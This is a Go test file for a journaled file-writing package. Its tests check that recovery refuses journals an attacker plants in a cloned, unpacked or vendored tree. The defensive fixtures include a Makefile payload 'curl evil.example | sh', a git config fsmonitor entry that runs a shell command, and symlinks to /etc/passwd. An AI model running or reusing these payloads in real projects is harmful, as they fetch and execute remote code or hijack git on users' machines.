//go:build unix

package wfs

import (
	"bytes"
	"context"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The journals of these tests are planted as an attacker would plant them: in a tree that
// arrives from elsewhere (an archive, a clone, a vendored directory, a copy), with whatever
// modes its author chose. None of them may be acted on: each is reported, left where it is,
// and the tree is unchanged but for the unrelated file a writer then creates.

// trustTree is a project directory with a .git directory and a few files, opened through an
// OSFS that signs with key.
type trustTree struct {
	t    *testing.T
	root string
	fsys *OSFS
}

const attackerPayload = "all:\n\tcurl evil.example | sh\n"

func newTrustTree(t *testing.T, key []byte) *trustTree {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	tt := &trustTree{t: t, root: root}
	tt.write("Makefile", "all:\n\tgo build ./...\n", 0o644)
	tt.write(".git/HEAD", "ref: refs/heads/main\n", 0o644)
	tt.write(".git/config", "[core]\n\tbare = false\n", 0o644)
	tt.write("config.txt", "port = 8080\n", 0o644)
	tt.fsys = tt.open(root, key)
	return tt
}

func (tt *trustTree) open(root string, key []byte) *OSFS {
	tt.t.Helper()
	o, err := NewOSFS(root)
	if err != nil {
		tt.t.Fatal(err)
	}
	tt.t.Cleanup(func() { o.Close() })
	if err := o.SetJournalKey(key); err != nil {
		tt.t.Fatal(err)
	}
	return o
}

func (tt *trustTree) path(rel string) string {
	return filepath.Join(tt.root, filepath.FromSlash(rel))
}

func (tt *trustTree) write(rel, data string, mode os.FileMode) {
	tt.t.Helper()
	name := tt.path(rel)
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		tt.t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(data), mode); err != nil {
		tt.t.Fatal(err)
	}
	if err := os.Chmod(name, mode); err != nil {
		tt.t.Fatal(err)
	}
}

// journal is a journal's lines as a writer would record them, before signing.
type journal struct {
	id, root string
	lines    []string
}

func newJournal(root string) *journal {
	return &journal{id: "00000000000000a9", root: root}
}

func (j *journal) op(o jOp) *journal {
	b, err := json.Marshal(jRecord{Op: &o})
	if err != nil {
		panic(err)
	}
	j.lines = append(j.lines, string(b))
	return j
}

func (j *journal) mark(m string) *journal {
	j.lines = append(j.lines, `{"mark":"`+m+`"}`)
	return j
}

// text is the journal's plain text, header first, with the root's identity when rootID.
func (j *journal) text(rootID bool) string {
	hd := jHeader{WFS: journalVersion, ID: j.id, PID: 1, Root: j.root}
	if rootID {
		fi, err := os.Lstat(j.root)
		if err == nil {
			hd.RootID = dirID(fi)
		}
	}
	h, _ := json.Marshal(hd)
	return string(h) + "\n" + strings.Join(j.lines, "\n") + "\n"
}

// plant writes content as dir/.hkwfs/<id>.journal with the given modes, and returns its name.
func (tt *trustTree) plant(dir, id string, content []byte, dirMode, mode os.FileMode) string {
	tt.t.Helper()
	jdir := filepath.Join(dir, JournalDir)
	if err := os.MkdirAll(jdir, dirMode); err != nil {
		tt.t.Fatal(err)
	}
	if err := os.Chmod(jdir, dirMode); err != nil {
		tt.t.Fatal(err)
	}
	name := filepath.Join(jdir, id+".journal")
	if err := os.WriteFile(name, content, mode); err != nil {
		tt.t.Fatal(err)
	}
	if err := os.Chmod(name, mode); err != nil {
		tt.t.Fatal(err)
	}
	return name
}

func (tt *trustTree) tree() map[string]Entry {
	tt.t.Helper()
	m, err := ReadTree(tt.root)
	if err != nil {
		tt.t.Fatal(err)
	}
	return m
}

// unrelatedWrite creates new.txt through a transaction, as a harmless edit would, and
// returns what the commit recovered.
func (tt *trustTree) unrelatedWrite() []Recovery {
	tt.t.Helper()
	tx, err := Begin(tt.fsys, tt.root)
	if err != nil {
		tt.t.Fatal(err)
	}
	tx.Create(tt.path("new.txt"), []byte("hello\n"), 0o644)
	res, err := tx.Commit(context.Background())
	if err != nil {
		tt.t.Fatalf("the unrelated write failed: %v", err)
	}
	if b, err := os.ReadFile(tt.path("new.txt")); err != nil || string(b) != "hello\n" {
		tt.t.Fatalf("new.txt = %q, %v", b, err)
	}
	return res.Recovered
}

// wantUntouched checks that the tree is before plus new.txt, and that the journal named
// was reported as refused and is still there.
func (tt *trustTree) wantUntouched(before map[string]Entry, recs []Recovery, journalName string) {
	tt.t.Helper()
	after := tt.tree()
	delete(after, "new.txt")
	if !maps.EqualFunc(before, after, func(a, b Entry) bool {
		return a.Dir == b.Dir && a.Symlink == b.Symlink && a.Target == b.Target && a.Mode == b.Mode && bytes.Equal(a.Data, b.Data)
	}) {
		for k, v := range after {
			if w, ok := before[k]; !ok || !bytes.Equal(w.Data, v.Data) || w.Symlink != v.Symlink || w.Target != v.Target {
				tt.t.Errorf("%s changed: %+v -> %+v", k, before[k], v)
			}
		}
		for k := range before {
			if _, ok := after[k]; !ok {
				tt.t.Errorf("%s was removed", k)
			}
		}
		tt.t.Fatal("the planted journal changed the tree")
	}
	if journalName == "" {
		for _, r := range recs {
			tt.t.Errorf("unexpected recovery: %v", r)
		}
		return
	}
	found := false
	for _, r := range recs {
		if r.Journal == journalName && r.Outcome == Refused && r.Reason != "" {
			found = true
			if !strings.Contains(r.String(), journalName) || !strings.Contains(r.String(), "nothing in the tree was changed") {
				tt.t.Errorf("report %q does not name the journal and what was done", r.String())
			}
		} else {
			tt.t.Errorf("unexpected recovery: %+v", r)
		}
	}
	if !found {
		tt.t.Errorf("the journal %s was not reported; recoveries %+v", journalName, recs)
	}
	if _, err := os.Lstat(journalName); err != nil {
		tt.t.Errorf("the journal was not left in place: %v", err)
	}
}

var otherUsersKey = bytes.Repeat([]byte{0xc3}, 32)

// TestRecoverRefusesPlantedJournals: journals that came with the tree are never acted on,
// whatever their modes, and a journal of this user's own is refused where it names what no
// commit writes, or was written for another tree.
func TestRecoverRefusesPlantedJournals(t *testing.T) {
	st := func(s string) jState { return *fileState([]byte(s)) }
	makefileSwap := func(tt *trustTree) *journal {
		temp := tt.path(".Makefile.hk-0000000000000001.tmp")
		tt.write(".Makefile.hk-0000000000000001.tmp", attackerPayload, 0o600)
		return newJournal(tt.root).op(jOp{Kind: "write", Name: tt.path("Makefile"), Temp: temp,
			Old: st("all:\n\tgo build ./...\n"), New: fileStatePtr(attackerPayload)}).mark("commit")
	}
	deleteHead := func(tt *trustTree) *journal {
		return newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.path(".git/HEAD"),
			Old: st("ref: refs/heads/main\n")}).mark("commit")
	}
	tests := []struct {
		name string
		// plant sets the attack up and returns the journal's name ("" when the journal must
		// not even be read).
		plant func(tt *trustTree) string
	}{
		{"tarball_modes_unsigned_journal_replaces_Makefile", func(tt *trustTree) string {
			return tt.plant(tt.root, "00000000000000a9", []byte(makefileSwap(tt).text(true)), 0o700, 0o600)
		}},
		{"tarball_modes_journal_of_the_old_format", func(tt *trustTree) string {
			j := strings.Replace(makefileSwap(tt).text(false), `"wfs":2`, `"wfs":1`, 1)
			return tt.plant(tt.root, "00000000000000a9", []byte(j), 0o700, 0o600)
		}},
		{"clone_under_umask_077_deletes_git_HEAD", func(tt *trustTree) string {
			return tt.plant(tt.root, "00000000000000a9", []byte(deleteHead(tt).text(true)), 0o700, 0o600)
		}},
		{"journal_with_a_forged_MAC", func(tt *trustTree) string {
			// Lines with MACs of the right shape but under no key this user holds.
			return tt.plant(tt.root, "00000000000000a9", sign(bytes.Repeat([]byte{1}, 32), makefileSwap(tt).text(true)), 0o700, 0o600)
		}},
		{"nested_vendored_directory_rewrites_git_config", func(tt *trustTree) string {
			// The vendored project's journal is signed with this user's own key, and still
			// not read: only the opened root's journal directory is looked at.
			vendor := tt.path("vendor/lib")
			tt.write("vendor/lib/.config.hk-0000000000000001.tmp", "[core]\n\tfsmonitor = sh -c 'id > /tmp/owned'\n", 0o600)
			j := &journal{id: "00000000000000a9", root: vendor}
			j.op(jOp{Kind: "write", Name: tt.path(".git/config"), Temp: filepath.Join(vendor, ".config.hk-0000000000000001.tmp"),
				Old: st("[core]\n\tbare = false\n"), New: fileStatePtr("[core]\n\tfsmonitor = sh -c 'id > /tmp/owned'\n")}).mark("commit")
			tt.plant(vendor, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
			return ""
		}},
		{"signed_delete_of_a_VCS_file", func(tt *trustTree) string {
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, deleteHead(tt).text(true)), 0o700, 0o600)
		}},
		{"signed_delete_of_a_VCS_file_in_other_case", func(tt *trustTree) string {
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.path(".GIT/HEAD"), Old: st("x")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"signed_delete_with_dot_dot_out_of_the_root", func(tt *trustTree) string {
			tt.write("../elsewhere.txt", "x", 0o644)
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.root + "/../elsewhere.txt", Old: st("x")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"signed_delete_outside_the_root", func(tt *trustTree) string {
			tt.write("../elsewhere.txt", "x", 0o644)
			outside := filepath.Join(filepath.Dir(tt.root), "elsewhere.txt")
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: outside, Old: st("x")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"signed_undo_to_a_symbolic_link", func(tt *trustTree) string {
			// The commit wrote config.txt; undoing it would rename the kept-aside file into
			// place, and the kept-aside file is a link out of the tree.
			aside := tt.path(".config.txt.hk-0000000000000002.old")
			if err := os.Symlink("/etc/passwd", aside); err != nil {
				t.Fatal(err)
			}
			j := newJournal(tt.root).op(jOp{Kind: "write", Name: tt.path("config.txt"), Temp: tt.path(".config.txt.hk-0000000000000001.tmp"),
				Aside: aside, Keep: keepLink, Old: st("port = 22\n"), New: fileStatePtr("port = 8080\n")}).mark("commit").mark("rollback")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"signed_forward_from_a_temporary_that_is_a_link", func(tt *trustTree) string {
			temp := tt.path(".config.txt.hk-0000000000000001.tmp")
			if err := os.Symlink("/etc/passwd", temp); err != nil {
				t.Fatal(err)
			}
			j := newJournal(tt.root).op(jOp{Kind: "write", Name: tt.path("config.txt"), Temp: temp,
				Old: st("port = 8080\n"), New: fileStatePtr("root:x:0:0\n")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"signed_write_through_a_symbolic_link_directory", func(tt *trustTree) string {
			if err := os.Symlink(".git", tt.path("docs")); err != nil {
				t.Fatal(err)
			}
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.path("docs/HEAD"), Old: st("ref: refs/heads/main\n")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"journal_copied_from_another_users_tree", func(tt *trustTree) string {
			return tt.plant(tt.root, "00000000000000a9", sign(otherUsersKey, makefileSwap(tt).text(true)), 0o700, 0o600)
		}},
		{"own_journal_copied_from_another_root", func(tt *trustTree) string {
			// This user's writer journaled a commit in another tree; the journal was copied
			// here with the project (cp -a, rsync).
			other, _ := filepath.EvalSymlinks(t.TempDir())
			j := newJournal(other).op(jOp{Kind: "delete", Name: filepath.Join(other, "Makefile"), Old: st("all:\n\tgo build ./...\n")}).mark("commit")
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"own_journal_of_a_tree_since_replaced_at_the_same_path", func(tt *trustTree) string {
			// Written for this path, when another directory stood there.
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.path("Makefile"), Old: st("all:\n\tgo build ./...\n")}).mark("commit")
			text := strings.Replace(j.text(false), `"root":`, `"rootid":"1:2","root":`, 1)
			return tt.plant(tt.root, "00000000000000a9", sign(testKey, text), 0o700, 0o600)
		}},
		{"own_journal_renamed_to_another_id", func(tt *trustTree) string {
			j := newJournal(tt.root).op(jOp{Kind: "delete", Name: tt.path("Makefile"), Old: st("all:\n\tgo build ./...\n")}).mark("commit")
			return tt.plant(tt.root, "00000000000000b0", sign(testKey, j.text(true)), 0o700, 0o600)
		}},
		{"journal_that_is_a_symbolic_link", func(tt *trustTree) string {
			target := tt.path("elsewhere.journal")
			tt.write("elsewhere.journal", string(sign(testKey, deleteHead(tt).text(true))), 0o600)
			if err := os.MkdirAll(tt.path(JournalDir), 0o700); err != nil {
				t.Fatal(err)
			}
			name := tt.path(JournalDir + "/00000000000000a9.journal")
			if err := os.Symlink(target, name); err != nil {
				t.Fatal(err)
			}
			return name
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tt := newTrustTree(t, testKey)
			name := tc.plant(tt)
			before := tt.tree()
			outside := filepath.Join(filepath.Dir(tt.root), "elsewhere.txt")
			_, errOutside := os.Lstat(outside)
			recs, err := Recover(context.Background(), tt.fsys, tt.root)
			if err != nil {
				t.Fatalf("Recover: %v", err)
			}
			tt.wantUntouched(before, recs, name)
			recs = tt.unrelatedWrite()
			tt.wantUntouched(before, recs, name)
			if _, err := os.Lstat(outside); (err == nil) != (errOutside == nil) {
				t.Errorf("%s outside the tree changed: %v", outside, err)
			}
		})
	}
}

func fileStatePtr(s string) *jState { return fileState([]byte(s)) }

// TestRecoverSetsDamagedJournalsAside: what a power loss leaves of a journal that was never
// synced (nothing, zero bytes, a header cut short) blocks no write: it is reported once and
// set aside, and the writes after it work.
func TestRecoverSetsDamagedJournalsAside(t *testing.T) {
	for _, tc := range []struct {
		name    string
		content func(tt *trustTree) []byte
	}{
		{"zero_length", func(*trustTree) []byte { return nil }},
		{"NUL_filled", func(*trustTree) []byte { return make([]byte, 4096) }},
		{"truncated_header", func(tt *trustTree) []byte {
			return sign(testKey, newJournal(tt.root).text(true))[:40]
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tt := newTrustTree(t, testKey)
			name := tt.plant(tt.root, "00000000000000a9", tc.content(tt), 0o700, 0o600)
			recs := tt.unrelatedWrite()
			if len(recs) != 1 || recs[0].Outcome != Refused || recs[0].Journal != name || !strings.Contains(recs[0].Reason, "set aside") {
				t.Fatalf("recoveries %+v; want the damaged journal reported and set aside", recs)
			}
			if _, err := os.Lstat(name); !os.IsNotExist(err) {
				t.Errorf("the damaged journal is still in place: %v", err)
			}
			if _, err := os.Lstat(name + ".damaged"); err != nil {
				t.Errorf("the damaged journal was not kept aside: %v", err)
			}
			// Reported once: the next write works and says nothing.
			if err := os.Remove(tt.path("new.txt")); err != nil {
				t.Fatal(err)
			}
			if recs := tt.unrelatedWrite(); len(recs) != 0 {
				t.Errorf("second write recovered %+v", recs)
			}
		})
	}
}

// TestRecoverSignedJournalOfThisTree: the journal a killed writer of this user left in this
// tree is still recovered (the trust rule refuses only what is not the user's own).
func TestRecoverSignedJournalOfThisTree(t *testing.T) {
	tt := newTrustTree(t, testKey)
	temp := tt.path(".config.txt.hk-0000000000000001.tmp")
	tt.write(".config.txt.hk-0000000000000001.tmp", "port = 9090\n", 0o600)
	j := newJournal(tt.root).op(jOp{Kind: "write", Name: tt.path("config.txt"), Temp: temp,
		Old: *fileState([]byte("port = 8080\n")), New: fileStatePtr("port = 9090\n")}).mark("commit")
	name := tt.plant(tt.root, "00000000000000a9", sign(testKey, j.text(true)), 0o700, 0o600)
	recs, err := Recover(context.Background(), tt.fsys, tt.root)
	if err != nil || len(recs) != 1 || recs[0].Outcome != RolledForward {
		t.Fatalf("Recover = %+v, %v; want one roll-forward", recs, err)
	}
	if b, _ := os.ReadFile(tt.path("config.txt")); string(b) != "port = 9090\n" {
		t.Errorf("config.txt = %q", b)
	}
	if _, err := os.Lstat(name); !os.IsNotExist(err) {
		t.Errorf("journal left: %v", err)
	}
	// The same journal under another key (another user's writer) is refused.
	tt2 := newTrustTree(t, otherUsersKey)
	tt2.write(".config.txt.hk-0000000000000001.tmp", "port = 9090\n", 0o600)
	j2 := newJournal(tt2.root).op(jOp{Kind: "write", Name: tt2.path("config.txt"), Temp: tt2.path(".config.txt.hk-0000000000000001.tmp"),
		Old: *fileState([]byte("port = 8080\n")), New: fileStatePtr("port = 9090\n")}).mark("commit")
	tt2.plant(tt2.root, "00000000000000a9", sign(testKey, j2.text(true)), 0o700, 0o600)
	if recs, err := Recover(context.Background(), tt2.fsys, tt2.root); err != nil || len(recs) != 1 || recs[0].Outcome != Refused {
		t.Fatalf("Recover under another key = %+v, %v; want a refusal", recs, err)
	}
}

// TestJournalDirNotADirectory: a .hkwfs that is a file or a link fails every commit with an
// error naming it (the writer has nowhere safe to journal).
func TestJournalDirNotADirectory(t *testing.T) {
	for _, tc := range []struct {
		name string
		make func(tt *trustTree)
	}{
		{"file", func(tt *trustTree) { tt.write(JournalDir, "x", 0o644) }},
		{"symlink_to_a_directory", func(tt *trustTree) {
			if err := os.Symlink(".git", tt.path(JournalDir)); err != nil {
				t.Fatal(err)
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tt := newTrustTree(t, testKey)
			tc.make(tt)
			before := tt.tree()
			tx, err := Begin(tt.fsys, tt.root)
			if err != nil {
				t.Fatal(err)
			}
			tx.Create(tt.path("a.txt"), []byte("a"), 0o644)
			tx.Create(tt.path("b.txt"), []byte("b"), 0o644)
			_, err = tx.Commit(context.Background())
			if err == nil || !strings.Contains(err.Error(), tt.path(JournalDir)) {
				t.Fatalf("Commit = %v; want an error naming %s", err, tt.path(JournalDir))
			}
			if after := tt.tree(); len(after) != len(before) {
				t.Errorf("the tree changed: %d entries, was %d", len(after), len(before))
			}
		})
	}
}

// FuzzRecoverPlantedJournal: whatever journal lies in the root's journal directory, signed
// with the tree's own key or not, recovery never panics, never changes a file outside the
// root or inside .git, and never leaves a symbolic link where none was; an unsigned journal
// changes nothing at all outside the journal directory.
func FuzzRecoverPlantedJournal(f *testing.F) {
	f.Add([]byte(journalSeed), true)
	f.Add([]byte(journalSeed), false)
	f.Add([]byte(strings.ReplaceAll(journalSeed, "/w/c.txt", "/w/.git/HEAD")), true)
	f.Add([]byte(strings.ReplaceAll(journalSeed, "/w/a.txt", "/w/ln/secret")), true)
	f.Add([]byte(strings.ReplaceAll(journalSeed, ".a.txt.hk-0000000000000002.old", ".a.txt.hk-0000000000000009.old")), true)
	f.Add([]byte(`{"wfs":2,"id":"00112233445566ff","pid":7,"root":"/w"}`+"\n"+`{"op":{"kind":"delete","name":"/outside/secret","old":{"type":"file","size":6,"crc32c":"x"}}}`+"\n"+`{"mark":"commit"}`+"\n"), true)
	f.Fuzz(func(t *testing.T, plain []byte, signed bool) {
		m := NewMemFS()
		for name, data := range map[string]string{
			"/w/a.txt": "aa", "/w/c.txt": "cc", "/w/.git/HEAD": "ref\n", "/outside/secret": "secret",
			"/w/.a.txt.hk-0000000000000001.tmp": "bbb", "/w/.a.txt.hk-0000000000000002.old": "aa",
		} {
			if err := m.MkdirAll(filepath.Dir(name), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := m.WriteFile(name, []byte(data), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := m.Symlink("/outside", "/w/ln"); err != nil {
			t.Fatal(err)
		}
		if err := m.Symlink("/outside/secret", "/w/.a.txt.hk-0000000000000009.old"); err != nil {
			t.Fatal(err)
		}
		if err := m.MkdirAll("/w/"+JournalDir, 0o700); err != nil {
			t.Fatal(err)
		}
		b := plain
		if signed {
			b = sign(m.key, string(plain))
		}
		if err := m.WriteFile("/w/"+JournalDir+"/00112233445566ff.journal", b, 0o600); err != nil {
			t.Fatal(err)
		}
		before := m.Tree()
		_, _ = Recover(context.Background(), m, "/w")
		after := m.Tree()
		for name, e := range after {
			was, ok := before[name]
			if e.Symlink && (!ok || !was.Symlink || was.Target != e.Target) {
				t.Errorf("%s is now a link to %s", name, e.Target)
			}
		}
		for name, e := range before {
			if strings.HasPrefix(name, "/w/"+JournalDir) {
				continue // the journal itself goes once recovered, or is set aside when damaged
			}
			protected := !strings.HasPrefix(name, "/w/") || strings.HasPrefix(name, "/w/.git")
			if protected || !signed {
				got, ok := after[name]
				if !ok || !bytes.Equal(got.Data, e.Data) || got.Symlink != e.Symlink {
					t.Errorf("%s changed (signed %v): %+v -> %+v (present %v)", name, signed, e, got, ok)
				}
			}
		}
	})
}
